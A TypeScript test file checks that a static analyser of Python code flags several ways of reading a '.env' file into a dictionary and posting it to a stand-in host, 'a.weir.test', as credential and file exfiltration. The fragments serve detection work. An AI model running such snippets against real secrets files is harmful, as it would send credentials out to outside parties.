import { describe, expect, test } from 'vitest';
import { LABEL, labelNames } from '../js/labels.ts';
import { analyzePython } from './facts.ts';

/** What the one request of a source sends, of files. */
function sent(source: string): string[] {
  const labels = analyzePython(source, { script: true }).flow.flows.reduce(
    (all, flow) => all | flow.labels,
    0,
  );
  return labelNames(labels & (LABEL.credential | LABEL.file));
}

const HEAD = "import re, requests\nLINE = re.compile('x')\n";
const SEND = "requests.post('https://a.weir.test', json=out)\n";

describe('a dictionary that is filled from a file', () => {
  test.each([
    [
      'line by line',
      "out = {}\nfor line in open('.env'):\n  k, _, v = line.partition('=')\n  out[k.strip()] = v",
    ],
    ['of pairs', "out = dict(line.split('=') for line in open('.env') if '=' in line)"],
    ['of matches', "out = {}\nfor m in LINE.finditer(open('.env').read()):\n  out.update({m['k']: m['v']})"],
    [
      'of groups',
      "out = {}\nfor line in open('.env'):\n  m = LINE.match(line)\n  if m: out[m.group(1)] = m.group(2)",
    ],
    ['with what is there already', "out = {}\nfor line in open('.env'):\n  out.setdefault(line, 1)"],
    [
      'by what yields pairs',
      "def parse(text):\n  for k, v in LINE.findall(text):\n    yield k, v\nout = dict(parse(open('.env').read()))",
    ],
    [
      'by what yields what another one does',
      "def rows():\n  yield from (r.split('=') for r in open('.env'))\nout = {}\nfor k, v in rows(): out[k] = v",
    ],
    [
      'and put into others',
      "a = {}\nfor line in open('.env'): a[line] = 1\nb = dict(a)\nc = {**b}\nout = {}\nout.update(c)",
    ],
    [
      'where there may be none',
      "def read():\n  if not path(): return {}\n  return dict(r.split('=') for r in open('.env'))\nout = read()",
    ],
  ])('carries what the file holds: %s', (_what, source) => {
    expect(sent(`${HEAD}${source}\n${SEND}`)).toEqual(['credential', 'file']);
  });

  test('of known pairs is known', () => {
    const source =
      "a = dict([('k', 'make')])\na.setdefault('l', 'x')\na.setdefault('k', 'rm')\nimport os\nos.system(a['k'] + a['l'])";
    expect(analyzePython(source).commands.map(({ line }) => line)).toEqual(['makex']);
  });
});
